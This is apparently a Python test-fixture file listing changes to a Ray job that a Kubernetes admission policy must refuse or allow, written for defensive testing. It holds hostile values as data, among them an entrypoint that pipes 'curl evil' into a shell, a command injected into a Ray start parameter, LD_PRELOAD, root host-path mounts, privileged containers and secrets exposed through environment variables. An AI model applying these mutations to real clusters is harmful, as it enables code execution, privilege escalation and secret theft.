"""Changes of a RayJob of the controller: those that the admission policy must refuse, and those that it must allow.

HOSTILE: changes of a new RayJob, with the policy's words. PERMITTED: updates that KubeRay and Kueue need to make.
UPDATES: updates that nobody may make.
"""

from collections.abc import Callable
from typing import Any

Change = Callable[[dict[str, Any]], Any]


def _pod(job: dict[str, Any], role: str) -> dict[str, Any]:
    if role == "submitter":
        return job["spec"]["submitterPodTemplate"]["spec"]
    cluster = job["spec"]["rayClusterSpec"]
    group = cluster["headGroupSpec"] if role == "head" else cluster["workerGroupSpecs"][0]
    return group["template"]["spec"]


def of_container(role: str, **changes: Any) -> Change:
    return lambda job: _pod(job, role)["containers"][0].update(changes)


def of_pod(role: str, **changes: Any) -> Change:
    return lambda job: _pod(job, role).update(changes)


def of_cluster(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"].update(changes)


def of_head(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"]["headGroupSpec"].update(changes)


def of_workers(**changes: Any) -> Change:
    return lambda job: job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0].update(changes)


def of_job(**changes: Any) -> Change:
    return lambda job: job["spec"].update(changes)


SAFE = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "capabilities": {"drop": ["ALL"]}}
TOKENS = {"name": "a", "secret": {"secretName": "stepmark-tokens"}}
SECRET_NODE_NAME = {
    "name": "STEPMARK_NODE_NAME",
    "valueFrom": {"secretKeyRef": {"name": "stepmark-tokens", "key": "admin"}},
}
HOSTILE: dict[str, tuple[Change, str]] = {
    "entrypoint": (of_job(entrypoint="curl evil | sh"), "stepmark's own entrypoint"),
    "runtime environment": (of_job(runtimeEnvYAML="pip: [evil]"), "without a runtime environment"),
    "someone's cluster": (of_job(clusterSelector={"ray.io/cluster": "x"}), "Ray cluster of the run's own"),
    "mode": (of_job(submissionMode="HTTPMode"), "Ray cluster of the run's own"),
    "no submitter": (lambda job: job["spec"].pop("submitterPodTemplate"), "submitter's pod written out"),
    "owner": (lambda job: job["metadata"].pop("ownerReferences"), "that a Scenario owns"),
    **{f"image of {role}": (of_container(role, image="evil"), "images") for role in ("head", "worker", "submitter")},
    "init container": (of_pod("head", initContainers=[{"name": "a", "image": "evil"}]), "no init containers"),
    "command": (of_container("worker", command=["sh"]), "no commands"),
    "lifecycle": (of_container("worker", lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), "no commands"),
    "environment": (of_container("head", env=[{"name": "LD_PRELOAD", "value": "/tmp/a.so"}]), "no environment but"),
    "secret in a variable": (of_container("head", env=[SECRET_NODE_NAME]), "no environment but"),
    "secret as environment": (
        of_container("head", envFrom=[{"secretRef": {"name": "stepmark-tokens"}}]),
        "no commands",
    ),
    "host path": (of_pod("worker", volumes=[{"name": "tmp", "hostPath": {"path": "/"}}]), "emptyDir"),
    "another ConfigMap": (of_pod("worker", volumes=[{"name": "a", "configMap": {"name": "evil"}}]), "own ConfigMap"),
    "the hub's tokens": (of_pod("head", volumes=[TOKENS]), "own ConfigMap and Secret"),
    "plugin of NCCL": (of_container("worker", env=[{"name": "NCCL_NET_PLUGIN", "value": "a"}]), "no environment but"),
    "another hub": (of_container("head", env=[{"name": "STEPMARK_HUB_URL", "value": "http://evil"}]), "no environment"),
    "root": (of_container("head", securityContext={**SAFE, "runAsUser": 0}), "without privileges"),
    "autoscaler": (of_cluster(autoscalerOptions={"image": "evil"}), "of fixed size"),
    "autoscaling": (of_cluster(enableInTreeAutoscaling=True), "of fixed size"),
    "no token of Ray": (of_cluster(authOptions={"mode": "disabled"}), "with Ray's token"),
    "ingress": (of_head(enableIngress=True), "inside the cluster alone"),
    "load balancer": (of_head(serviceType="LoadBalancer"), "inside the cluster alone"),
    "head's service": (of_head(headService={"spec": {"type": "NodePort"}}), "inside the cluster alone"),
    "parameter of Ray": (of_head(rayStartParams={"num-cpus": "0; curl evil"}), "parameters of Ray"),
    "another parameter": (of_head(rayStartParams={"temp-dir": "0"}), "parameters of Ray"),
    "projected token": (of_pod("worker", volumes=[{"name": "tmp", "projected": {"sources": []}}]), "emptyDir"),
    "host network": (of_pod("worker", hostNetwork=True), "without the host's network"),
    "host processes": (of_pod("head", hostPID=True), "without the host's network"),
    "privileged": (of_container("worker", securityContext={"privileged": True}), "without privileges"),
    "no context": (of_container("submitter", securityContext={}), "without privileges"),
    "token": (of_pod("head", automountServiceAccountToken=True), "without a token of Kubernetes"),
    "account": (of_pod("head", serviceAccountName="stepmark-controller"), "without a token of Kubernetes"),
}

PERMITTED: dict[str, Change] = {
    "nothing": lambda job: None,
    "a finalizer": lambda job: job["metadata"].update(finalizers=["ray.io/rayjob-finalizer"]),
    "that it may begin": of_job(suspend=False),
    "its nodes": of_pod("worker", nodeSelector={"gpu": "h100"}, tolerations=[{"key": "gpu", "operator": "Exists"}]),
}
UPDATES: dict[str, Change] = {
    "autoscaler": lambda job: job["spec"]["rayClusterSpec"].update(
        autoscalerOptions={"image": "evil"}, enableInTreeAutoscaling=True
    ),
    "parameter of Ray": of_head(rayStartParams={"num-cpus": "0; curl evil"}),
    "someone's code": of_pod("worker", volumes=[{"name": "code", "configMap": {"name": "evil"}}]),
    "the hub's tokens": of_pod("head", volumes=[TOKENS]),
    "plugin of NCCL": of_container("worker", env=[{"name": "NCCL_NET_PLUGIN", "value": "a"}]),
    "root": of_container("head", securityContext={**SAFE, "runAsUser": 0}),
    "no token of Ray": of_cluster(authOptions={"mode": "disabled"}),
    "load balancer": of_head(serviceType="LoadBalancer"),
    "ingress": of_head(enableIngress=True),
    "thousands of pods": of_workers(replicas=4096, maxReplicas=4096),
    **{f"image of {role}": of_container(role, image="evil") for role in ("head", "worker", "submitter")},
    "command": of_container("submitter", command=["sh"]),
    "entrypoint": of_job(entrypoint="curl evil | sh"),
    "runtime environment": of_job(runtimeEnvYAML="pip: [evil]"),
    "account": of_pod("worker", serviceAccountName="stepmark-controller"),
    "another group": lambda job: job["spec"]["rayClusterSpec"]["workerGroupSpecs"].append(
        {**job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0], "groupName": "more"}
    ),
    "labels that a NetworkPolicy selects by": lambda job: job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"][
        "metadata"
    ].update(labels={}),
}
